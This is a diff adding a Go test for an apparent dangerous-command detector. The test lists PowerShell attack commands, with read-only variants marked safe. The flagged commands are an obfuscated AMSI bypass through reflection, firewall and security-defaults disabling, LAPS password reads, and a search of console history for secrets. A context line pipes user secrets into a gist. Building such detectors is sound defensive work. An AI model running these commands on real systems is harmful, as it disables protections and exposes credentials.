@@ -477,3 +477,27 @@ func TestRound46PowerShellLaterStagesSeen(t *testing.T) {
 		{`dotnet user-secrets list | gh gist create -f s.txt -`, CategoryExfiltration, "", LevelCritical},
 	})
 }
+
+// PowerShell's ways past its own protections and to its secrets: AMSI
+// switched off through reflection with its names behind wildcards, the
+// firewall profiles disabled through CIM, the directory's security
+// defaults patched off through Graph, LAPS passwords read from Active
+// Directory, secrets searched in PSReadLine's history. Their read-only
+// and harmless forms pass.
+func TestRound46PowerShellProtections(t *testing.T) {
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, ps, []dangerCase{
+		{`$x = [Ref].Assembly.GetTypes() | ? { $_.Name -like '*iUtils' }; $y = $x.GetFields('NonPublic,Static') | ? { $_.Name -like '*tFailed' }; $y.SetValue($null, $true)`, "", "win-defender-disable", LevelHigh},
+		{`Get-CimInstance -Namespace root/StandardCimv2 -ClassName MSFT_NetFirewallProfile | Set-CimInstance -Property @{ Enabled = $false }`, "", "win-firewall-off", LevelHigh},
+		{`Invoke-MgGraphRequest -Method PATCH -Uri https://graph.microsoft.com/v1.0/policies/identitySecurityDefaultsEnforcementPolicy -Body @{ isEnabled = $false }`, "", "win-defender-disable", LevelHigh},
+		{`Get-ADComputer -Filter * -Properties msLAPS-Password | Format-Table Name, msLAPS-Password`, CategoryExfiltration, "secret-printed", LevelHigh},
+		{`Select-String -Path "$env:APPDATA\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt" -Pattern 'token|password'`, CategoryExfiltration, "secret-printed", LevelHigh},
+	})
+	checkSafe(t, d, ps, []string{
+		`Get-CimInstance -Namespace root/StandardCimv2 -ClassName MSFT_NetFirewallProfile | Select-Object Name, Enabled`,
+		`Invoke-MgGraphRequest -Method GET -Uri https://graph.microsoft.com/v1.0/policies/identitySecurityDefaultsEnforcementPolicy`,
+		`Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwdExpirationTime | Select-Object Name, ms-Mcs-AdmPwdExpirationTime`,
+		`Select-String -Path "$env:APPDATA\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt" -Pattern 'docker compose'`,
+	})
+}
